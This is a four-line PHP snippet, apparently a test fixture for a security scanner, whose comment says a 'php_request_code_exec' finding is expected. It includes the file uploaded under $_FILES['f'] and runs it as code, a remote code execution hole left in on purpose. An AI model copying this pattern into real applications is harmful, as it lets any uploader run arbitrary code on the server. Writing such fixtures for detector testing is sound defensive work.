<?php
// An uploaded temporary file included as code.
// want: php_request_code_exec
include $_FILES['f']['tmp_name'];
